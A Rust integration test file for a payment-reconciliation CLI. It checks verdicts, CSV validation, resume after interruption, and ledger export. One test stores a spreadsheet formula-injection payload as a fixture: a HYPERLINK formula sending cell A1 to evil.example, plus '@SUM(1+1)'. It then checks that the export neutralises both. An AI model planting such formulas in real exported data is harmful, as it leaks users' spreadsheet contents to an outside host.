//! `paybridge reconcile` and `paybridge ledger` against the sandbox: every
//! verdict from a merchant's CSV, a bad CSV refused before any query, a run
//! interrupted by Ctrl-C and resumed that asks each order once, a finished
//! `--state` run run again that asks every order again, the ledger's open
//! orders resolved, and a ledger run killed mid-run and resumed that asks
//! every order it did not record, on SQLite and PostgreSQL.

use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::Duration;

use std::sync::Arc;

use paybridge::ledger::{Ledger, LedgerState, Observation, OrderKey, Source, SqlLedger};
use paybridge::{Gateway, Money, OrderId, OrderKind};
use paybridge_cli::harness::{demo_config, myr_deposit, pay};
use paybridge_sandbox::faults::{FaultConfig, FaultKind, FaultRule};
use paybridge_sandbox::state::RequestCounts;
use paybridge_sandbox::{Sandbox, SandboxConfig};
use paybridge_testkit::postgres::TestPostgres;
use serde_json::Value;

async fn sandbox() -> Sandbox {
    Sandbox::start(SandboxConfig::default(), ([127, 0, 0, 1], 0).into())
        .await
        .unwrap()
}

/// A configuration for the sandbox's demo merchants (One1Pay at a closed
/// port, so its queries fail), with a ledger when `ledger` names one.
fn config_file(dir: &Path, sandbox: &Sandbox, ledger: Option<&str>) -> PathBuf {
    let base = sandbox.base_url();
    let mut text = format!(
        "[vpay88]\nbase_url = \"{base}/vpay88\"\nusername = \"demo\"\napi_key = \"demo-api-key\"\n\
         secret_key = \"demo-secret-key\"\n[one1pay]\nbase_url = \"http://127.0.0.1:9\"\n\
         username = \"demo\"\napi_key = \"demo-api-key\"\n[http]\nread_attempts = 1\n"
    );
    if let Some(url) = ledger {
        text.push_str(&format!("[ledger]\nurl = \"{url}\"\n"));
    }
    let path = dir.join("paybridge.toml");
    std::fs::write(&path, text).unwrap();
    path
}

fn paybridge(config: &Path, args: &[&str]) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_paybridge"));
    command
        .arg("--config")
        .arg(config)
        .args(args)
        .env_remove("PAYBRIDGE_PROVIDER")
        .env_remove("PAYBRIDGE_LEDGER_URL")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    command
}

/// Runs `paybridge` to its end and checks its exit code.
fn run(config: &Path, args: &[&str], code: i32) -> Output {
    let out = paybridge(config, args).output().unwrap();
    assert_eq!(
        out.status.code(),
        Some(code),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    out
}

fn json(out: &Output) -> Value {
    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "not JSON ({e}): {}\n{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    })
}

/// Creates Vpay88 deposits in the sandbox through the SDK: `(id, amount, pressed)`,
/// `pressed` the payer's button, or `None` to leave it pending.
async fn deposits(sandbox: &Sandbox, orders: &[(&str, &str, Option<&str>)]) {
    let config = demo_config(&sandbox.base_url(), None).unwrap();
    let vpay = Gateway::for_provider(&config, paybridge::providers::VPAY88).unwrap();
    for (id, amount, pressed) in orders {
        let order = vpay
            .create_deposit(&myr_deposit(id, amount).unwrap())
            .await
            .unwrap();
        if let Some(button) = pressed {
            pay(&order.payment_url, button).await.unwrap();
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_verdict_from_a_merchants_csv() {
    let sandbox = sandbox().await;
    deposits(
        &sandbox,
        &[
            ("R-ADV", "100", Some("completed")),
            ("R-SAME", "100", None),
            ("R-CONFLICT", "100", Some("fail")),
            ("R-AMOUNT", "100", None),
            ("R-CURRENCY", "100", None),
        ],
    )
    .await;
    let dir = paybridge_testkit::temp_dir("paybridge-reconcile");
    let config = config_file(&dir, &sandbox, None);
    let csv = dir.join("orders.csv");
    std::fs::write(
        &csv,
        "provider,kind,order_id,amount,currency,merchant_status\n\
         vpay88,deposit,R-ADV,100.00,MYR,pending\n\
         vpay88,deposit,R-SAME,100,MYR,pending\n\
         vpay88,deposit,R-CONFLICT,100,MYR,completed\n\
         vpay88,deposit,R-AMOUNT,250,MYR,pending\n\
         vpay88,deposit,R-CURRENCY,100,THB,pending\n\
         vpay88,deposit,R-NOBODY,100,MYR,pending\n\
         one1pay,withdrawal,R-DOWN,100,THB,processing\n",
    )
    .unwrap();
    let out = run(
        &config,
        &[
            "--output",
            "json",
            "reconcile",
            "--input",
            csv.to_str().unwrap(),
        ],
        6,
    );
    let report = json(&out);
    let verdicts: Vec<(&str, &str)> = report["orders"]
        .as_array()
        .unwrap()
        .iter()
        .map(|o| {
            (
                o["order_id"].as_str().unwrap(),
                o["verdict"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        verdicts,
        [
            ("R-DOWN", "error"),
            ("R-ADV", "advanced"),
            ("R-AMOUNT", "amount_mismatch"),
            ("R-CONFLICT", "status_conflict"),
            ("R-CURRENCY", "currency_mismatch"),
            // The sandbox refuses the query; no document says in what words a
            // provider answers for an order it does not hold, so that says nothing.
            ("R-NOBODY", "error"),
            ("R-SAME", "unchanged"),
        ]
    );
    let summary = &report["summary"];
    for (verdict, count) in [
        ("error", 2),
        ("amount_mismatch", 1),
        ("currency_mismatch", 1),
        ("unchanged", 1),
        ("advanced", 1),
        ("status_conflict", 1),
    ] {
        assert_eq!(summary[verdict], count, "{verdict}: {summary}");
    }
    // Table and CSV say the same; a clean run exits 0.
    let clean = dir.join("clean.csv");
    std::fs::write(
        &clean,
        "provider,kind,order_id,amount,currency\nvpay88,deposit,R-ADV,100,MYR\n",
    )
    .unwrap();
    let out = run(
        &config,
        &[
            "--output",
            "csv",
            "reconcile",
            "--input",
            clean.to_str().unwrap(),
        ],
        0,
    );
    let text = String::from_utf8(out.stdout).unwrap();
    assert_eq!(
        text.lines().collect::<Vec<_>>(),
        [
            "order_id,provider,account,kind,merchant_status,provider_status,verdict,detail",
            "R-ADV,vpay88,,deposit,,completed,advanced,provider says completed",
        ]
    );
}

#[tokio::test]
async fn a_bad_csv_is_refused_naming_each_line_before_any_query() {
    let sandbox = sandbox().await;
    let dir = paybridge_testkit::temp_dir("paybridge-reconcile-bad");
    let config = config_file(&dir, &sandbox, None);
    let cases = [
        (
            "provider,kind,order_id,amount,currency,merchant_stauts\nvpay88,deposit,A,1,MYR,pending\n",
            "unknown: merchant_stauts",
        ),
        ("provider,kind,order_id,amount\nvpay88,deposit,A,1\n", "missing: currency"),
        (
            "provider,kind,order_id,amount,currency\nvpay88,deposit,A,1,MYR\npaypal,deposit,B,1,MYR\n\
             vpay88,refund,C,1,MYR\nvpay88,deposit,D,ten,MYR\nvpay88,deposit,A,1,MYR\n",
            "line 3: configuration: `provider` 'paypal' is not one of",
        ),
    ];
    for (text, says) in cases {
        let csv = dir.join("orders.csv");
        std::fs::write(&csv, text).unwrap();
        let out = run(&config, &["reconcile", "--input", csv.to_str().unwrap()], 2);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(stderr.contains(says), "{says:?} missing: {stderr}");
    }
    let csv = dir.join("orders.csv");
    let out = paybridge(&config, &["reconcile", "--input", csv.to_str().unwrap()])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    for line in [
        "line 4: kind \"refund\" is neither deposit nor withdrawal",
        "line 5: invalid request: `amount`",
        "line 6: vpay88 deposit A is listed twice (first on line 2)",
    ] {
        assert!(stderr.contains(line), "{line:?} missing: {stderr}");
    }
    assert!(
        sandbox.status_requests().is_empty(),
        "nothing was queried: {:?}",
        sandbox.status_requests()
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_run_interrupted_by_ctrl_c_and_resumed_asks_each_order_once() {
    let sandbox = sandbox().await;
    let ids: Vec<String> = (0..40).map(|n| format!("R-INT-{n:02}")).collect();
    let orders: Vec<(&str, &str, Option<&str>)> =
        ids.iter().map(|id| (id.as_str(), "100", None)).collect();
    deposits(&sandbox, &orders).await;
    let dir = paybridge_testkit::temp_dir("paybridge-reconcile-int");
    let config = config_file(&dir, &sandbox, None);
    let csv = dir.join("orders.csv");
    let mut text = "provider,kind,order_id,amount,currency,merchant_status\n".to_owned();
    for id in &ids {
        text.push_str(&format!("vpay88,deposit,{id},100,MYR,pending\n"));
    }
    std::fs::write(&csv, text).unwrap();
    let state = dir.join("progress.jsonl");
    let args = [
        "--output",
        "json",
        "reconcile",
        "--input",
        csv.to_str().unwrap(),
        "--state",
        state.to_str().unwrap(),
        "--rate",
        "20",
        "--concurrency",
        "4",
    ];
    let first = paybridge(&config, &args).spawn().unwrap();
    let lines = |path: &Path| {
        std::fs::read_to_string(path)
            .map(|t| t.lines().count())
            .unwrap_or(0)
    };
    let deadline = tokio::time::Instant::now() + Duration::from_secs(30);
    while lines(&state) < 10 {
        assert!(
            tokio::time::Instant::now() < deadline,
            "no progress recorded"
        );
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    let interrupted = Command::new("kill")
        .args(["-INT", &first.id().to_string()])
        .status()
        .unwrap();
    assert!(interrupted.success());
    let out = first.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(130), "{stderr}");
    assert!(
        stderr.contains("run the same command again to resume"),
        "{stderr}"
    );
    // The file's first line is its marker; each other line one order's row.
    let done = lines(&state) - 1;
    assert!(done < ids.len(), "interrupted before the end ({done} done)");

    let again = paybridge(&config, &args).output().unwrap();
    let stderr = String::from_utf8_lossy(&again.stderr);
    assert_eq!(again.status.code(), Some(0), "{stderr}");
    assert!(
        stderr.contains(&format!("resuming, {done} of 40 orders already done")),
        "{stderr}"
    );
    let report = json(&again);
    assert_eq!(report["orders"].as_array().unwrap().len(), 40);
    assert_eq!(report["summary"]["unchanged"], 40);
    let counts = sandbox.status_requests();
    for id in &ids {
        let times = asked(&counts, id);
        assert_eq!(times, 1, "{id} asked {times} times");
    }
}

/// How many status queries `counts` holds for `order_id`.
fn asked(counts: &RequestCounts, order_id: &str) -> u32 {
    counts
        .iter()
        .filter(|((_, _, order), _)| order == order_id)
        .map(|(_, n)| *n)
        .sum()
}

/// Each order's `(verdict, provider_status)` in a JSON report, by order id.
fn verdicts(report: &Value) -> std::collections::BTreeMap<String, (String, String)> {
    report["orders"]
        .as_array()
        .unwrap()
        .iter()
        .map(|o| {
            (
                o["order_id"].as_str().unwrap().to_owned(),
                (
                    o["verdict"].as_str().unwrap().to_owned(),
                    o["provider_status"].as_str().unwrap().to_owned(),
                ),
            )
        })
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_finished_state_file_run_again_asks_every_order_again() {
    let sandbox = sandbox().await;
    let config = demo_config(&sandbox.base_url(), None).unwrap();
    let vpay = Gateway::for_provider(&config, paybridge::providers::VPAY88).unwrap();
    let order = vpay
        .create_deposit(&myr_deposit("R-AGAIN", "100").unwrap())
        .await
        .unwrap();
    let dir = paybridge_testkit::temp_dir("paybridge-reconcile-again");
    let config = config_file(&dir, &sandbox, None);
    let csv = dir.join("orders.csv");
    std::fs::write(
        &csv,
        "provider,kind,order_id,amount,currency,merchant_status\n\
         vpay88,deposit,R-AGAIN,100,MYR,pending\n",
    )
    .unwrap();
    let state = dir.join("progress.jsonl");
    let args = [
        "--output",
        "json",
        "reconcile",
        "--input",
        csv.to_str().unwrap(),
        "--state",
        state.to_str().unwrap(),
    ];
    let first = json(&run(&config, &args, 0));
    assert_eq!(
        verdicts(&first)["R-AGAIN"],
        ("unchanged".to_owned(), "pending".to_owned())
    );
    pay(&order.payment_url, "completed").await.unwrap();
    let again = run(&config, &args, 0);
    let stderr = String::from_utf8_lossy(&again.stderr);
    assert!(!stderr.contains("resuming"), "{stderr}");
    assert_eq!(
        verdicts(&json(&again))["R-AGAIN"],
        ("advanced".to_owned(), "completed".to_owned()),
        "the status the provider holds now, not the first run's"
    );
    assert_eq!(asked(&sandbox.status_requests(), "R-AGAIN"), 2);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_state_file_that_is_not_the_runs_own_is_refused_untouched_and_a_new_one_is_private() {
    let sandbox = sandbox().await;
    let dir = paybridge_testkit::temp_dir("paybridge-reconcile-own");
    let config = config_file(&dir, &sandbox, None);
    let csv = dir.join("orders.csv");
    let orders = "provider,kind,order_id,amount,currency\nvpay88,deposit,R-OWN,100,MYR\n";
    std::fs::write(&csv, orders).unwrap();
    let other = dir.join("notes.txt");
    std::fs::write(&other, "my notes\n").unwrap();
    let args = |state: &Path| {
        ["reconcile", "--input", csv.to_str().unwrap(), "--state"]
            .into_iter()
            .map(str::to_owned)
            .chain([state.display().to_string()])
            .collect::<Vec<String>>()
    };
    let run_with = |state: &Path, code: i32| {
        let args = args(state);
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        run(&config, &args, code)
    };
    for (state, says) in [
        (&csv, "is the --input file"),
        (&other, "is not a reconcile state file"),
    ] {
        let out = run_with(state, 2);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(stderr.contains(says), "{stderr}");
        assert!(
            stderr.contains(state.to_str().unwrap()),
            "names the file: {stderr}"
        );
    }
    assert_eq!(
        std::fs::read_to_string(&csv).unwrap(),
        orders,
        "left as it was"
    );
    assert_eq!(std::fs::read_to_string(&other).unwrap(), "my notes\n");

    let state = dir.join("progress.jsonl");
    // The order is unknown to the sandbox: a verdict to look into, exit 6.
    run_with(&state, 6);
    let text = std::fs::read_to_string(&state).unwrap();
    assert_eq!(
        text.lines().next(),
        Some(paybridge_cli::reconcile::STATE_MARKER),
        "{text}"
    );
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(&state).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o600, "{}", state.display());
    }
    // Its own file is taken again.
    run_with(&state, 6);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_ledger_export_in_csv_neutralises_a_providers_formula() {
    let sandbox = sandbox().await;
    let dir = paybridge_testkit::temp_dir("paybridge-export-formula");
    let url = format!("sqlite://{}", dir.join("ledger.db").display());
    let ledger = SqlLedger::open(&url).await.unwrap();
    let key = OrderKey::new(
        paybridge::providers::VPAY88,
        None,
        OrderKind::Deposit,
        &OrderId::new("X-1").unwrap(),
    );
    let formula = r#"=HYPERLINK("http://evil.example/?leak="&A1,"click")"#;
    ledger
        .observe(
            &key,
            &Observation::new(Source::Status, LedgerState::Pending)
                .amount(Some(Money::parse("100", "MYR").unwrap()))
                .provider_status(formula)
                .detail("@SUM(1+1)"),
        )
        .await
        .unwrap();
    drop(ledger);
    let config = config_file(&dir, &sandbox, Some(&url));
    let out = run(&config, &["ledger", "export", "--format", "csv"], 0);
    let text = String::from_utf8(out.stdout).unwrap();
    let mut reader = csv::ReaderBuilder::new().from_reader(text.as_bytes());
    let header = reader.headers().unwrap().clone();
    let row = reader.records().next().unwrap().unwrap();
    let cell = |name: &str| row[header.iter().position(|h| h == name).unwrap()].to_owned();
    assert_eq!(cell("provider_status"), format!("'{formula}"), "{text}");
    assert_eq!(cell("amount"), "100", "{text}");
    assert!(
        !text.lines().any(|line| line
            .split(',')
            .any(|c| c.trim_start_matches('"').starts_with(['=', '@']))),
        "no cell starts a formula: {text}"
    );
}

/// A ledger run killed (SIGKILL) in the middle, every answer moving its order
/// to final, and each order's callback applied before it is resumed: the
/// resumed run reports each order of the run once, with the verdict on the
/// state the ledger held when the run began, and every order whose row the
/// killed run did not record is asked again (once), the others not.
async fn a_ledger_run_killed_and_resumed_asks_every_order_it_did_not_record(url: &str) {
    const ORDERS: usize = 120;
    let slow_status = SandboxConfig {
        faults: FaultConfig {
            rules: vec![FaultRule {
                provider: "vpay88".into(),
                endpoint: "check_status".into(),
                kind: FaultKind::Latency,
                percent: 100,
                latency_ms: 40,
            }],
            ..FaultConfig::default()
        },
        ..SandboxConfig::default()
    };
    let sandbox = Sandbox::start(slow_status, ([127, 0, 0, 1], 0).into())
        .await
        .unwrap();
    let ids: Vec<String> = (0..ORDERS).map(|n| format!("K-{n:03}")).collect();
    {
        let ledger = Arc::new(SqlLedger::open(url).await.unwrap());
        let config = demo_config(&sandbox.base_url(), None).unwrap();
        let vpay = Gateway::for_provider(&config, paybridge::providers::VPAY88)
            .unwrap()
            .with_ledger(ledger);
        for id in &ids {
            let order = vpay
                .create_deposit(&myr_deposit(id, "100").unwrap())
                .await
                .unwrap();
            pay(&order.payment_url, "completed").await.unwrap();
        }
    }
    let dir = paybridge_testkit::temp_dir("paybridge-reconcile-kill");
    let config = config_file(&dir, &sandbox, Some(url));
    let args = ["--output", "json", "reconcile", "--concurrency", "4"];
    let mut first = paybridge(&config, &args).spawn().unwrap();
    let total = |counts: &RequestCounts| counts.values().sum::<u32>();
    let deadline = tokio::time::Instant::now() + Duration::from_secs(60);
    while total(&sandbox.status_requests()) < 40 {
        assert!(tokio::time::Instant::now() < deadline, "no query was sent");
        tokio::time::sleep(Duration::from_millis(5)).await;
    }
    first.kill().unwrap();
    let killed = first.wait().unwrap();
    assert_eq!(killed.code(), None, "killed by a signal, not finished");
    let before = sandbox.status_requests();
    assert!(
        total(&before) < ORDERS as u32,
        "killed before the end ({} asked)",
        total(&before)
    );
    // While reconcile is down, the merchant's service applies each payment's callback.
    let ledger = SqlLedger::open(url).await.unwrap();
    for id in &ids {
        let key = OrderKey::new(
            paybridge::providers::VPAY88,
            None,
            OrderKind::Deposit,
            &OrderId::new(id).unwrap(),
        );
        let paid = Observation::new(Source::Callback, LedgerState::Completed)
            .provider_status("completed")
            .amount(Some(Money::parse("100", "MYR").unwrap()));
        ledger.observe(&key, &paid).await.unwrap();
    }
    drop(ledger);

    let again = paybridge(&config, &args).output().unwrap();
    let stderr = String::from_utf8_lossy(&again.stderr);
    assert_eq!(again.status.code(), Some(0), "{stderr}");
    let recorded: usize = stderr
        .split("resuming, ")
        .nth(1)
        .and_then(|rest| rest.split(' ').next())
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("not resumed: {stderr}"));
    let report = json(&again);
    let rows = verdicts(&report);
    assert_eq!(rows.len(), ORDERS, "every order of the run reported once");
    let after = sandbox.status_requests();
    let mut asked_again = 0;
    for id in &ids {
        assert_eq!(
            rows[id],
            ("advanced".to_owned(), "completed".to_owned()),
            "{id}"
        );
        let first_run = asked(&before, id);
        let second_run = asked(&after, id) - first_run;
        assert!(second_run <= 1, "{id} asked {second_run} times on resuming");
        assert!(
            first_run + second_run >= 1,
            "{id} reported without being asked"
        );
        asked_again += second_run as usize;
    }
    assert_eq!(
        asked_again,
        ORDERS - recorded,
        "exactly the orders not recorded were asked again"
    );
    // The run finished: the next one starts afresh, and nothing is open.
    let out = run(&config, &args, 0);
    assert_eq!(json(&out)["orders"].as_array().unwrap().len(), 0);
}

/// The ledger's open orders resolved by `paybridge reconcile` (no --input),
/// then listed and exported.
async fn the_ledgers_open_orders_are_resolved_listed_and_exported(url: &str) {
    let sandbox = sandbox().await;
    let dir = paybridge_testkit::temp_dir("paybridge-reconcile-ledger");
    let config = config_file(&dir, &sandbox, Some(url));
    let create = |id: &str| {
        let words = "--provider vpay88 --output json deposit create --amount 100 --currency MYR \
                     --customer john --email john@example.com --phone 601012456789 --order-id";
        let mut args: Vec<&str> = words.split_whitespace().collect();
        args.push(id);
        paybridge(&config, &args).output().unwrap()
    };
    for id in ["L-PAID", "L-OPEN"] {
        let out = create(id);
        assert_eq!(
            out.status.code(),
            Some(0),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        if id == "L-PAID" {
            let url = json(&out)["payment_url"].as_str().unwrap().to_owned();
            pay(&url, "completed").await.unwrap();
        }
    }
    let listed = |state: &str| {
        let out = run(
            &config,
            &["--output", "json", "ledger", "list", "--state", state],
            0,
        );
        let mut ids: Vec<String> = json(&out)
            .as_array()
            .unwrap()
            .iter()
            .map(|o| {
                format!(
                    "{} {}",
                    o["order_id"].as_str().unwrap(),
                    o["state"].as_str().unwrap()
                )
            })
            .collect();
        ids.sort();
        ids
    };
    assert_eq!(listed("open"), ["L-OPEN pending", "L-PAID pending"]);
    let out = run(
        &config,
        &["--output", "json", "reconcile", "--provider", "vpay88"],
        0,
    );
    assert_eq!(json(&out)["summary"]["advanced"], 1);
    assert_eq!(listed("open"), ["L-OPEN pending"]);
    assert_eq!(listed("final"), ["L-PAID completed"]);
    let later = run(
        &config,
        &[
            "--output",
            "json",
            "ledger",
            "list",
            "--since",
            "2999-01-01",
        ],
        0,
    );
    assert_eq!(
        json(&later),
        serde_json::json!([]),
        "nothing changed after 2999"
    );
    let bad = run(&config, &["ledger", "list", "--since", "yesterday"], 2);
    assert!(
        String::from_utf8_lossy(&bad.stderr).contains("neither RFC 3339"),
        "{}",
        String::from_utf8_lossy(&bad.stderr)
    );
    // A second run starts afresh (the first finished) and asks only what is open.
    let out = paybridge(&config, &["--output", "json", "reconcile"])
        .output()
        .unwrap();
    assert_eq!(json(&out)["orders"].as_array().unwrap().len(), 1);
    let export = paybridge(&config, &["ledger", "export", "--format", "csv"])
        .output()
        .unwrap();
    let text = String::from_utf8(export.stdout).unwrap();
    let header = text.lines().next().unwrap();
    assert_eq!(
        header,
        "provider,account,kind,order_id,amount,currency,state,provider_status,provider_ref,conflict,created_at,updated_at"
    );
    assert_eq!(text.lines().count(), 3, "{text}");
    assert!(
        text.contains(",L-PAID,100,MYR,completed,completed,"),
        "{text}"
    );
}

/// A module `$name` running `$test` on a SQLite file and on PostgreSQL.
macro_rules! on_sqlite_and_postgres {
    ($name:ident, $test:ident) => {
        mod $name {
            #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
            async fn sqlite() {
                let dir =
                    paybridge_testkit::temp_dir(concat!("paybridge-reconcile-", stringify!($name)));
                let url = format!("sqlite://{}", dir.join("ledger.db").display());
                super::$test(&url).await;
            }

            #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
            async fn postgres() {
                let name = concat!("reconcile::", stringify!($name), "::postgres");
                if let Some(server) = super::TestPostgres::start(name) {
                    super::$test(&server.url()).await;
                }
            }
        }
    };
}

on_sqlite_and_postgres!(
    killed,
    a_ledger_run_killed_and_resumed_asks_every_order_it_did_not_record
);
on_sqlite_and_postgres!(
    ledger,
    the_ledgers_open_orders_are_resolved_listed_and_exported
);
